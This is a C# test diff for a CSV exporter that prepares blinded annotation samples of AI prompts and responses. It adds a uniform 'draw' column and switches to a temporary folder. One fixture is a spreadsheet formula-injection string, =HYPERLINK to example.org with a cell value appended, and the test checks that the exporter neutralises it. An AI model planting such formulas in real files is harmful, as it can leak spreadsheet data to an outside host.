@@ -73,9 +73,11 @@ public sealed class AnnotationSampleTests
     {
         List<Trial> trials = AnnotationTrials.Planted();
         IReadOnlyList<CsvRow> blind = await Write(trials, new AnnotationSampleOptions());
-        blind[0].Cells.ShouldBe(["id", "target", "language", "role", "prompt", "response", "label", "note", "stratum", "inclusionProbability"]);
+        blind[0].Cells.ShouldBe(["id", "target", "language", "role", "prompt", "response", "label", "note", "draw"]);
         blind.Skip(1).SelectMany(static row => row.Cells).ShouldNotContain(static cell => cell.Contains("Refused", StringComparison.Ordinal) || cell.Contains("Complete", StringComparison.Ordinal));
         blind.Skip(1).ShouldAllBe(static row => row.Cells[6].Length == 0 && row.Cells[7].Length == 0);
+        // Nothing in a row differs between strata: a size or a probability would, and would tell the flagged from the others.
+        blind.Skip(1).Select(static row => row.Cells[8]).Distinct().ShouldHaveSingleItem().ShouldMatch("^draw-[0-9a-f]{12}$");
         IReadOnlyList<CsvRow> shown = await Write(trials, new AnnotationSampleOptions { ShowVerdicts = true });
         shown[0].Cells.ShouldContain("engagement");
         shown.Skip(1).ShouldContain(static row => row.Cells.Contains("Refused"));
@@ -96,7 +98,7 @@ public sealed class AnnotationSampleTests
         const string Hostile = "=HYPERLINK(\"http://example.org/\"&A1)\r\n\"x\";,\t\u202Eabc\ud83d";
         IReadOnlyList<CsvRow> rows = await Write([AnnotationTrials.Trial("a", "en", Engagement.Complete, Hostile)], new AnnotationSampleOptions { Separator = ';' }, ';');
         rows.Count.ShouldBe(2);
-        rows[1].Cells.Count.ShouldBe(10);
+        rows[1].Cells.Count.ShouldBe(9);
         rows[1].Cells[5].ShouldBe("'=HYPERLINK(\"http://example.org/\"&A1)\n\"x\";,\t\\u202Eabc\\uD83D");
     }
 
@@ -114,7 +116,8 @@ public sealed class AnnotationSampleTests
 
     private static async Task<IReadOnlyList<CsvRow>> Write(IEnumerable<Trial> trials, AnnotationSampleOptions options, char separator = ',')
     {
-        string path = Path.GetTempFileName();
+        DirectoryInfo folder = Directory.CreateTempSubdirectory("annotation");
+        string path = Path.Combine(folder.FullName, "f.csv");
         try
         {
             await (await Draw(trials, options)).WriteCsvAsync(path, Cancel);
@@ -127,7 +130,7 @@ public sealed class AnnotationSampleTests
         }
         finally
         {
-            File.Delete(path);
+            folder.Delete(recursive: true);
         }
     }
 }
